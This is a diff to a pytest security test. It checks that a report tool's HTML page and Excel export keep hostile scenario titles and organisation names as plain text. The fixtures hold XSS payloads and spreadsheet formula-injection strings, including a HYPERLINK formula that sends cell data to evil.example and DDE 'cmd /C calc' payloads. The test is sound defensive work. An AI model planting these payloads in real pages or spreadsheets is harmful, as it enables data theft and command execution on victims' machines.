@@ -7,6 +7,7 @@ organisation and intervention names are attacker-controlled for every other view
 
 from __future__ import annotations
 
+import openpyxl
 import pytest
 import yaml
 
@@ -24,6 +25,9 @@ TAMPERED_TITLE = f"{SCRIPT} **not bold** _nor italic_ [a link](javascript:window
 """Title of a result whose balance check fails, so it reaches the banner too."""
 ORG_LABEL = '<img src=y onerror="window.__xss=4"> Trust'
 INTERVENTION = '<svg onload="window.__xss=5">'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet may read as the start of a formula."""
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for the figures")'
 
 
 def write_scenario(path, base: str, **fields) -> None:
@@ -131,3 +135,36 @@ def test_board_pack_keeps_hostile_text_as_text(board_page, hostile_url, hostile_
     page.locator("summary", has_text=f"Assumptions: {TITLE}").click()
     visible(page, DESCRIPTION)
     assert_no_script_ran(page)
+
+
+def test_workbook_keeps_formula_like_text_as_text(small_results, hostile_results, tmp_path):
+    _, results = hostile_results
+    hostile = {
+        "scenario_title": FORMULA,
+        "scenario_description": "+cmd|' /C calc'!A0",
+        "scenario_text": "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
+    datasets = [
+        load(small_results[1] / "do_nothing.nc"),
+        load(results / "tampered.nc").assign_attrs(hostile),
+    ]
+    names = datasets[1]["org_name"].values.astype(object)
+    names[1] = "-2+3+cmd|' /C calc'!A0"
+    names[2] = "\t=1+1"
+    datasets[1] = datasets[1].assign_coords(org_name=("org", names))
+    _, xlsx = report.write_pack(datasets, tmp_path / "pack.html")
+    workbook = openpyxl.load_workbook(xlsx)
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    formulas = [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
+    assert not formulas, f"cells that Excel would evaluate: {formulas}"
+    texts = [c.value for c in cells if c.data_type == "s"]
+    risky = [c for c in cells if c.data_type == "s" and c.value.startswith(FORMULA_STARTS)]
+    assert risky and all(c.quotePrefix for c in risky), "Excel keeps them text when edited"
+    assert texts.count(FORMULA) >= 10, "the title survives as text wherever it is listed"
+    for value in (*hostile.values(), names[1], names[2]):
+        assert value in texts
+    # Numbers stay numbers.
+    quantiles = workbook["system_quantiles_gbp_m"]
+    header = [c.value for c in quantiles[1]]
+    p50 = [row[header.index("p50")] for row in quantiles.iter_rows(min_row=2)]
+    assert p50 and all(c.data_type == "n" and isinstance(c.value, float) for c in p50)
